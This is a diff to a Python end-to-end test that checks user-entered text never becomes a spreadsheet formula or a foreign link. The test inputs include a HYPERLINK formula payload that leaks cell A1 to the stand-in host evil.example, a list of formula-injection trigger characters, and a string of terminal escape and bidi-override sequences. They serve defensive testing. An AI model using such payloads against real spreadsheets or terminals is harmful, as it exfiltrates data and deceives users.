@@ -20,6 +20,7 @@ from tests.end_to_end.world import DELIVERY, FORUM, GROUPS, PLAN, RESULTS, World
 from tests.templates import Templates
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "'=")
+OUR_LINKS = ("https://docs.google.com/spreadsheets/d/", "#gid=")  # to cells of workbooks, and of the same one
 PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"กดที่นี่")'
 TABS = {"groups": GROUPS, "forum": FORUM, "plan": PLAN, "results": RESULTS, "delivery": DELIVERY}
 CONTROL = "\x1b]0;owned\x07\x1b[31mแดง\x1b[2J\x08\x9b1A\u202eกลับ"
@@ -108,7 +109,7 @@ def test_no_text_of_theirs_becomes_a_formula_or_a_link_anywhere(world: World) ->
     for of in ("central", "83"):
         for tab, cell in entered_cells(world, of):
             assert "formulaValue" not in cell["userEnteredValue"], (of, tab, cell)
-            assert all(link.startswith("https://docs.google.com/spreadsheets/d/") for link in links_in(cell)), cell
+            assert all(link.startswith(OUR_LINKS) for link in links_in(cell)), cell
             seen += str(cell["userEnteredValue"].get("stringValue", ""))
     assert "=" + PAYLOAD in seen
 
